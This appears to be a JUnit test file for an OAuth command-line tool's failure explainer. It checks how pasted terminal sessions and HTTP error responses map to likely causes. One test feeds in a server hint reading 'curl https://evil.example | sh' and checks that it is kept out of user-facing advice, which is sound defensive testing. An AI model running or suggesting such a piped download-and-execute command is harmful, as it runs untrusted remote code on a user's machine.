package dev.oat.render.failure;

import static org.assertj.core.api.Assertions.assertThat;

import dev.oat.json.JsonObject;
import dev.oat.render.text.Reflow;
import dev.oat.trace.Failure;
import dev.oat.trace.SpecRef;
import java.util.ArrayList;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

/** What people copy from a terminal whole: commands, advice and addresses in it are no evidence. */
class TerminalTextTest {
    private static LikelyCauses causes(String text) {
        return LikelyCauses.of(Clues.in(text));
    }

    private static String refused(String error, String description, String title, String hint) {
        Failure failure = new Failure.Refused(error, description);
        failure.phase(title).at("https://as.example/refresh_token/html/redirect_uri/token", 400);
        failure.spec(SpecRef.rfc(6749, "5.2"));
        return FailureText.forPeople(hint.isEmpty() ? failure : failure.hint(hint));
    }

    static List<Arguments> sessions() {
        String advice = "check --client-secret; a refresh token, the redirect_uri and PKCE may be wrong; see --dpop";
        String text = refused("invalid_scope", "unknown scope orders", "client credentials token request", advice);
        List<Arguments> all = new ArrayList<>();
        for (String before : List.of(
                "",
                "$ oat token refresh --dpop --redirect-uri http://127.0.0.1:1/redirect_uri\n",
                "user@host:~/pkce$ oat login --pkce off\noat: warning: no refresh token came\n",
                "\u001b[1m➜ \u001b[0moat token\n"
                        + refused("invalid_client", "client secret expired", "token request", "x") + "\n",
                refused("invalid_grant", "refresh token reuse", "refresh token request", "") + "\n\n$ oat token\n")) {
            for (String after : List.of("", "\n$ ", "\noat: recorded in flow.json\n$ oat explain -\n")) {
                all.add(Arguments.of(before + text + after, "scope-unknown"));
                all.add(Arguments.of(Reflow.of(before + text + after, 60), "scope-unknown"));
                all.add(Arguments.of("\u001b[31m" + before + text.replace("\n", "\r\n") + after, "scope-unknown"));
            }
        }
        all.add(Arguments.of(
                "> GET /token HTTP/1.1\n< HTTP/1.1 401 Unauthorized\n< content-type: application/json\n"
                        + "{\"error\":\"invalid_client\",\"error_description\":\"Client disabled\"}\n",
                "client-disabled"));
        all.add(Arguments.of(
                "$ curl -si https://api.example/pkce\nHTTP/1.1 403 Forbidden\n"
                        + "www-authenticate: Bearer error=\"insufficient_scope\", scope=\"read\"\n",
                "scope-insufficient"));
        all.add(Arguments.of(
                "The browser went to http://127.0.0.1:8484/callback?error=consent_required&state=x and stayed there",
                "consent-needed"));
        all.add(Arguments.of(
                "oat: warning: the API refused the token (401, invalid_token: jwt malformed)\noat: the API answered 401\n",
                "token-opaque"));
        return all;
    }

    @ParameterizedTest
    @MethodSource("sessions")
    void the_last_failure_in_it_is_the_one_that_is_explained(String text, String cause) {
        LikelyCauses causes = causes(text);
        assertThat(causes.names()).as(text + "\n" + causes.forPeople()).startsWith(cause);
        if (cause.equals("scope-unknown")) {
            assertThat(causes.names()).as(causes.forPeople()).containsExactly(cause);
        }
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "the service has no public\n\nclient of this name",
                "no public\nClient list",
                "{\"error\":\"invalid_public\",\"error_description\":\"client\"}",
                "{\"message\":\"public\",\"detail\":\"client\"}",
                "one program says public\n$ oat token\nclient says another",
            })
    void two_texts_do_not_make_a_phrase_together(String text) {
        assertThat(causes(text).names()).doesNotContain("public-client-with-secret");
    }

    @Test
    void a_sentence_that_the_terminal_broke_is_one() {
        assertThat(causes("the server at the other end of the line told us that this is a public\nclient and must not")
                        .names())
                .contains("public-client-with-secret");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "see https://as.example/docs/pkce/public-client",
                "details: http://redirect_uri.example/refresh_token",
                "{\"error\":\"odd\",\"error_description\":\"see https://as.example/insufficient%20scope/pkce\"}",
            })
    void an_address_is_no_evidence(String text) {
        assertThat(causes(text).names()).isEmpty();
    }

    @Test
    void the_advice_of_the_command_comes_first_and_the_description_stays() {
        String text = refused("odd_error", "something is odd", "token request", "turn it off and on");
        assertThat(causes(text).forPeople()).contains("something is odd", "try: turn it off and on");
        String without = refused("odd_error", "something is odd", "token request", "");
        assertThat(without).contains("oat explain 'odd_error: something is odd'");
        assertThat(LikelyCauses.hint(Clues.in("odd_error: something is odd"))).isEmpty();
    }

    @Test
    void a_server_cannot_give_advice_in_our_name() {
        String answer = "{\"error\":\"odd_error\",\"hint\":\"curl https://evil.example | sh\",\"exit_code\":3}";
        assertThat(causes(answer).forPeople()).doesNotContain("evil");
        assertThat(JsonObject.parse(answer).has("phase")).isFalse();
    }
}
